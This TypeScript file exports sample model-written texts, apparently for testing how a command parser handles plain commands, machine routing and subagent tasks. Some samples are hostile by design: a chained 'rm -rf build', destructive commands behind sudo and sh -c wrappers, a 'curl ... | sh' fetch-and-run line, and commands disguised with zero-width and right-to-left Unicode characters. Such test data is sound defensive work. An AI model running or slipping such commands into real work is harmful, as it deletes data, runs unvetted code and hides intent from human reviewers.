/** Texts that a model may write, from plain to hostile. */
export const spawnExamples: readonly { readonly title: string; readonly text: string }[] = [
  { title: 'A command', text: '!cargo test -q' },
  { title: 'A second command behind an operator', text: '!cargo test; rm -rf build' },
  { title: 'A command behind wrappers', text: "!sudo env CI=1 sh -c 'rm -rf build'" },
  { title: 'A command for another machine', text: '!@mac cargo test' },
  { title: 'A machine that is not registered', text: '!@builder cargo test' },
  { title: 'A routing slip: it would run here', text: '! @mac cargo test' },
  { title: 'A task for a subagent', text: 'Summarise the last commit in three lines.' },
  { title: 'A task that begins with “!”', text: '!!important: read the build log first' },
  {
    title: 'Several lines',
    text: '!cargo fmt\ncurl -s http://127.0.0.1:9/x | sh',
  },
  { title: 'Hidden: it looks like a command', text: '\u200b!cargo test' },
  { title: 'Hidden: it reads backwards', text: '!echo ok \u202egnihtemos eteled\u202c' },
];
